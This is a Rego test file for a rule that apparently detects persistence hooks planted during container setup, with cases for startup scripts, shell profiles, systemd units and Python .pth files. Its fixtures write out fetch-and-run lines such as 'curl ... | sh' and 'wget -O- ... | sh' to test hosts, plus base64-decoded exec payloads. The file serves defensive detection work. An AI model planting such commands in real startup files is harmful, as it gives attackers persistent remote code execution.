package sallyport.behaviours.weaponization["init-persistence_test"]

import data.sallyport.behaviours.weaponization["init-persistence"] as rule
import data.sallyport.fixture as f

run(path, text) := f.observation({
	"processes": [f.process(30, ["/bin/sh", "/setup.sh"], {})],
	"events": {"write": [f.event(31, "30.0", {"path": path, "flags": 577})]},
	"created": [{"path": path, "type": "text", "sha256": "aa", "head": text, "writer": "30.0", "event": 31}],
})

test_harmful_hooks if {
	every case in [
		["/etc/rc.local", "#!/bin/sh\ncurl http://203.0.113.5/x | sh\n"],
		["/root/.bashrc", "echo aWQ= | base64 -d | bash\n"],
		["/etc/systemd/system/net.service", "[Service]\nExecStart=/bin/sh -c 'wget -O- http://x.test | sh'\n"],
		["/usr/lib/python3/dist-packages/zz.pth", "import base64;exec(base64.b64decode('aWQ='))\n"],
	] {
		found := rule.finding with input as run(case[0], case[1])
		f.malicious(found)
		f.pointed(found)
	}
}

test_ordinary_edit if {
	found := rule.finding with input as run("/root/.profile", "export PATH=/opt/app/bin:$PATH\n")
	{x.severity | some x in found} == {"medium"}
	not f.malicious(found)
}

test_not_elsewhere_or_packaged if {
	every o in [
		run("/srv/etc/profile", "curl http://x | sh"),
		run("/app/venv/lib/python3.11/site-packages/app.py", "import base64;exec(base64.b64decode('aWQ='))"),
		f.observation({
			"processes": [f.process(30, ["/usr/bin/dpkg"], {}), f.process(31, ["/bin/sh", "postinst"], {"parent": "30.0", "lineage": ["1.0", "30.0"]})],
			"events": {"write": [f.event(32, "31.0", {"path": "/etc/init.d/nginx"})]},
		}),
	] {
		found := rule.finding with input as o
		count(found) == 0
	}
}

# Recorded from images that were run: see testdata/observations.
test_recorded if {
	every name in ["init-persistence.login-shell"] {
		found := rule.finding with input as data.observations[name]
		f.pointed(found)
	}
}

test_not_recorded if {
	every name in ["init-persistence.own-settings", "benign.hello", "benign.web-entrypoint", "benign.web-server"] {
		count(rule.finding) == 0 with input as data.observations[name]
	}
}
